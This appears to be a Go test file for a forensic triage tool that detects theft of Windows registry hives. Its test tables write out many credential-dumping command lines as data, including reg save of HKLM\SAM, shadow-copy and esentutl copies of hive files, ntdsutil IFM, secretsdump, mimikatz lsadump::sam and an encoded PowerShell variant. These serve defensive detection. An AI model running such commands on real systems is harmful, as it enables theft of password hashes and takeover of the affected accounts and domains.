package command

import (
	"encoding/base64"
	"encoding/binary"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"hivetriage/artifacts"
	"hivetriage/triage/technique"
)

// found gives what Analyze says of a line, in the order of the line.
func analyzeLine(line string) []Command {
	return Analyze(artifacts.Process{CommandLine: line})
}

// TestTechniques: every form of the catalogue that a command line shows, with
// what is copied, to where, and whether the line alone proves it.
func TestTechniques(t *testing.T) {
	const config = `C:\Windows\System32\config\`
	for _, row := range []struct {
		line      string
		technique int
		hives     string
		to        string
		impact    string
	}{
		{`reg save HKLM\SAM s`, technique.RegSave, "SAM", "s", "export"},
		{`reg export HKLM\SAM s.reg`, technique.RegExport, "SAM", "s.reg", "export"},
		{`reg save \\DC\HKLM\SAM s`, technique.RegRemote, "SAM", "s", "export"},
		{`regedit /e C:\x.reg HKEY_LOCAL_MACHINE\SAM`, technique.Regedit, "SAM", `C:\x.reg`, "export"},
		{`regedit.exe /E "C:\a b.reg" "HKEY_LOCAL_MACHINE\SECURITY\Policy\Secrets"`, technique.Regedit, "SECURITY", `C:\a b.reg`, "export"},
		{`regedit /e all.reg`, technique.Regedit, "SAM,SECURITY,SYSTEM", "all.reg", "export"},
		{`regedit /e x.reg HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services`, technique.Regedit, "SYSTEM", "x.reg", "benign"},
		{`esentutl.exe  /y /vss C:\windows/system32/config/SAM /d C:\ProgramData\SAM`, technique.Esentutl, "SAM", `C:\ProgramData\SAM`, "export"},
		{`esentutl /y ` + config + `SECURITY /d sec`, technique.Esentutl, "SECURITY", "sec", "attempt"},
		{`copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SYSTEM C:\Temp`, technique.ShadowCopy, "SYSTEM", `C:\Temp`, "export"},
		{`cmd.exe /c copy ` + config + `SAM C:\Temp\sam`, technique.RawRead, "SAM", `C:\Temp\sam`, "attempt"},
		{`cmd /c copy /y C:\Windows\System32\config\RegBack\SAM x`, technique.KeptCopies, "SAM", "x", "export"},
		{`xcopy D:\mount\Windows\System32\config\SAM E:\`, technique.RawRead, "SAM", `E:\`, "export"},
		{`cmd /c type \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy4\Windows\System32\config\SAM > C:\x`, technique.ShadowCopy, "SAM", `C:\x`, "export"},
		{`robocopy /b C:\Windows\System32\config C:\out SAM SYSTEM`, technique.RawRead, "SAM,SYSTEM", `C:\out\`, "export"},
		{`robocopy C:\Windows\System32\config C:\out`, technique.RawRead, "SAM,SECURITY,SYSTEM", `C:\out\`, "attempt"},
		{`print  /D:C:\Windows\Temp\system.txt \\localhost\C$\@GMT-2026.02.09-14.25.37\windows\system32\config\SYSTEM`, technique.ShadowCopy, "SYSTEM", `C:\Windows\Temp\system.txt`, "export"},
		{`certutil -f -v -encodehex "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM" C:\Temp\samvss 2`, technique.ShadowCopy, "SAM", `C:\Temp\samvss`, "export"},
		{`rawcopy64.exe /FileNamePath:C:\Windows\System32\config\SAM /OutputPath:C:\Temp`, technique.RawRead, "SAM", `C:\Temp\SAM`, "export"},
		{`7z a C:\out.7z C:\shadow\Windows\System32\config\SAM C:\shadow\Windows\System32\config\SYSTEM`, technique.RawRead, "SAM,SYSTEM", `C:\out.7z`, "export"},
		{`powershell -c "Copy-Item -Path C:\Windows\System32\config\SAM -Destination C:\t\s"`, technique.PowerShell, "SAM", `C:\t\s`, "attempt"},
		{`powershell -Command "[System.IO.File]::Copy('\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy2\Windows\System32\config\SAM', 'C:\t\s')"`, technique.PowerShell, "SAM", `C:\t\s`, "export"},
		{`powershell "Invoke-NinjaCopy -Path C:\Windows\System32\config\SYSTEM -LocalDestination C:\t\y"`, technique.RawRead, "SYSTEM", `C:\t\y`, "export"},
		{`powershell -c "$k::RegSaveKeyEx($h,'SAM.out',0,2)"`, technique.PowerShell, "SAM", "", "attempt"},
		{`ntdsutil.exe  'ac i ntds' 'ifm' 'create full c:\hacker' q q`, technique.IFM, "SECURITY,SYSTEM", `c:\hacker`, "export"},
		{`ntdsutil  "activate instance ntds" ifm "create full c:\hacker" quit quit`, technique.IFM, "SECURITY,SYSTEM", `c:\hacker`, "export"},
		{`ntdsutil "ac i ntds" "ifm" "create sysvol full c:\x" q q`, technique.IFM, "SECURITY,SYSTEM", `c:\x`, "export"},
		{`wbadmin start backup -backuptarget:E: -include:C:\Windows\NTDS\ntds.dit,C:\Windows\System32\config\SYSTEM -quiet`, technique.WindowsBackup, "SYSTEM", "E:", "export"},
		{`wbadmin start systemstatebackup -backuptarget:E:`, technique.WindowsBackup, "SAM,SECURITY,SYSTEM", "E:", "access"},
		{`vssadmin create shadow /for=C:`, technique.ShadowCopy, "", "", "access"},
		{`diskshadow /s c:\x.txt`, technique.ShadowCopy, "", "", "access"},
		{`wmic shadowcopy call create Volume=C:\`, technique.ShadowCopy, "", "", "access"},
		{`powershell "(Get-WmiObject -List Win32_ShadowCopy).Create('C:\','ClientAccessible')"`, technique.ShadowCopy, "", "", "access"},
		{`cmd /c mklink /d C:\s \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\`, technique.ShadowCopy, "", "", "access"},
		{`HiveNightmare.exe`, technique.HiveNightmare, "SAM,SECURITY", "", "attempt"},
		{`icacls C:\Windows\System32\config\SAM`, technique.HiveNightmare, "SAM", "", "access"},
		{`python3 secretsdump.py -sam sam.save LOCAL`, technique.Secretsdump, "SAM,SECURITY", "", "attempt"},
		{`python reg.py corp/u@10.0.0.5 backup -o \\10.0.0.9\share`, technique.ImpacketReg, "SAM,SECURITY,SYSTEM", `\\10.0.0.9\share`, "attempt"},
		{`nxc smb 10.0.0.5 -u u -p p --sam`, technique.NetExec, "SAM", "", "attempt"},
		{`BackupOperatorToDA.exe -t \\dc -o \\me\share\`, technique.BackupOperator, "SAM,SECURITY", "", "attempt"},
		{`C:\tools\pwdump7.exe`, technique.PwdumpFamily, "SAM,SECURITY", "", "attempt"},
		{`mimikatz "lsadump::sam" exit`, technique.InMemory, "SAM", "", "attempt"},
		{`reg add "HKLM\System\CurrentControlSet\Control\Session Manager\Configuration Manager" /v EnablePeriodicBackup /t REG_DWORD /d 1`, technique.PeriodicBackup, "", "", "access"},
		{`schtasks /run /tn \Microsoft\Windows\Registry\RegIdleBackup`, technique.PeriodicBackup, "", "", "access"},
		{`C:\x\unknown.exe C:\Windows\System32\config\SAM`, technique.RawRead, "SAM", "", "access"},
		{`psexec \\h esentutl.exe /y /vss C:\Windows\System32\config\SAM /d C:\x`, technique.Esentutl, "SAM", `C:\x`, "export"},
		{`wmic process call create "esentutl /y /vss C:\Windows\System32\config\SAM /d C:\x"`, technique.Esentutl, "SAM", `C:\x`, "export"},
		{`powershell -enc ` + encoded(`copy '\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM' C:\x`), technique.ShadowCopy, "SAM", `C:\x`, "export"},
	} {
		got := analyzeLine(row.line)
		if len(got) != 1 {
			t.Errorf("%s: %d commands, want 1: %+v", row.line, len(got), got)
			continue
		}
		c := got[0]
		if c.Technique != row.technique || strings.Join(c.Hives, ",") != row.hives || c.Destination != row.to || c.Impact != row.impact || len(c.Because) == 0 {
			t.Errorf("%s:\n got technique %d, hives %v, to %q, %s\nwant technique %d, hives %s, to %q, %s", row.line,
				c.Technique, c.Hives, c.Destination, c.Impact, row.technique, row.hives, row.to, row.impact)
		}
	}
}

func encoded(script string) string {
	var raw []byte
	for _, u := range utf16.Encode([]rune(script)) {
		raw = binary.LittleEndian.AppendUint16(raw, u)
	}
	return base64.StdEncoding.EncodeToString(raw)
}

// TestHarmlessLines: what looks like one of the techniques and is none.
func TestHarmlessLines(t *testing.T) {
	for _, line := range []string{
		`esentutl /y C:\Windows\NTDS\ntds.dit /d C:\x`, `esentutl /p C:\Windows\SoftwareDistribution\DataStore\DataStore.edb`,
		`copy C:\data\SAM D:\`, `xcopy C:\Windows\System32\config\systemprofile D:\p /e`, `robocopy C:\Users D:\u /mir`,
		`vssadmin list shadows`, `vssadmin delete shadows /all`, `wmic shadowcopy list`, `diskshadow`,
		`ntdsutil "activate instance ntds" files info quit quit`, `wbadmin get versions`, `wbadmin start backup -include:C:\data`,
		`regedit`, `regedit /s settings.reg`, `regedit /e x.reg HKEY_CURRENT_USER\Software`,
		`certutil -hashfile C:\Windows\System32\config.txt`, `certutil -encode C:\a.bin C:\b.txt`,
		`7z a x.7z C:\data\system`, `tar -cf x.tar C:\SAM`, `print /D:LPT1 C:\report.txt`, `nxc smb 10.0.0.0/24`, `mimikatz exit`,
		`reg query HKLM\SAM`, `reg add HKLM\SOFTWARE\x /v EnablePeriodicBackupX /d 1`, `schtasks /run /tn Backup`,
		`cmd /c type C:\Users\x\notes.txt`, `powershell -c "Copy-Item a b"`, `powershell -c "Get-WmiObject Win32_ShadowCopy"`,
		`python3 train.py --lsa`, `icacls C:\Users`, `cmd /c echo copy C:\Windows\System32\config\SAM x`,
	} {
		if got := analyzeLine(line); len(got) != 0 {
			t.Errorf("%s: %+v", line, got)
		}
	}
}

// TestWithoutLine: a start without its line is judged by the program's name,
// where the program has no other purpose.
func TestWithoutLine(t *testing.T) {
	for image, want := range map[string]int{
		`C:\Tools\pwdump7.exe`: technique.PwdumpFamily, `C:\Users\eve\HiveNightmare.exe`: technique.HiveNightmare, `C:\Tools\secretsdump.exe`: technique.Secretsdump,
		`C:\Windows\System32\reg.exe`: 0, `C:\Windows\regedit.exe`: 0, `C:\Windows\System32\ntdsutil.exe`: 0, `C:\Windows\System32\wbadmin.exe`: 0,
		`C:\Windows\System32\vssadmin.exe`: 0, `C:\Windows\System32\diskshadow.exe`: 0, `C:\Tools\mimikatz.exe`: 0, `C:\Tools\nxc.exe`: 0, "": 0, `C:\Tools\`: 0,
	} {
		got := Analyze(artifacts.Process{Executable: image})
		if len(got) != min(want, 1) || want != 0 && (got[0].Technique != want || got[0].Impact != "attempt" || !slices.Contains(got[0].Because, "The command line was not recorded: the program's name alone tells.")) {
			t.Errorf("%s: %+v", image, got)
		}
	}
}

// TestCarried: what a shell does itself is not carried by its line.
func TestCarried(t *testing.T) {
	const from = `\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM`
	for line, want := range map[string]bool{
		`cmd.exe /c copy ` + from + ` C:\x`: false, `cmd.exe /c type ` + from + ` > C:\x`: false, `powershell -c "Copy-Item ` + from + ` C:\x"`: false,
		`powershell -c "[System.IO.File]::Copy('` + from + `', 'C:\x')"`: false, `reg save HKLM\SAM C:\x`: false,
		`cmd.exe /c reg save HKLM\SAM C:\x`: true, `cmd.exe /c esentutl /y /vss C:\Windows\System32\config\SAM /d C:\x`: true, `psexec \\h cmd.exe /c copy ` + from + ` C:\x`: true,
	} {
		got := analyzeLine(line)
		if len(got) != 1 || got[0].Carried() != want {
			t.Errorf("%s: %+v", line, got)
		}
	}
}

// TestOutputs: where a command's files may lie.
func TestOutputs(t *testing.T) {
	for _, row := range []struct {
		c    Command
		want []string
	}{
		{Command{Verb: "save", Destination: "s", Hives: []string{"SAM"}}, []string{"s"}},
		{Command{Verb: "copy", Destination: `C:\T`, Hives: []string{"SAM"}}, []string{`C:\T`, `C:\T\SAM`}},
		{Command{Verb: "copy", Destination: `C:\T\`, Hives: []string{"SAM", "SYSTEM"}}, []string{`C:\T\SAM`, `C:\T\SYSTEM`}},
		{Command{Verb: "ifm", Technique: technique.IFM, Destination: `C:\x`}, []string{`C:\x\registry\SYSTEM`, `C:\x\registry\SECURITY`}},
		{Command{Verb: "dump"}, nil},
	} {
		var got []string
		for _, o := range row.c.Outputs() {
			got = append(got, o.File)
		}
		if !slices.Equal(got, row.want) {
			t.Errorf("%+v: %q, want %q", row.c, got, row.want)
		}
	}
}

// TestOutputOverShare: where the output of a command run by impacket's tools
// goes gives them away.
func TestOutputOverShare(t *testing.T) {
	for line, want := range map[string]bool{
		`cmd.exe /Q /c reg save HKLM\SAM C:\s 1> \\127.0.0.1\ADMIN$\__1616161616.55 2>&1`: true,
		`cmd.exe /Q /c reg save HKLM\SAM C:\s 1> C:\log.txt 2>&1`:                         false,
	} {
		got := analyzeLine(line)
		if len(got) != 1 || slices.ContainsFunc(got[0].Because, func(s string) bool { return strings.Contains(s, "wmiexec") }) != want {
			t.Errorf("%s: %+v", line, got)
		}
	}
}
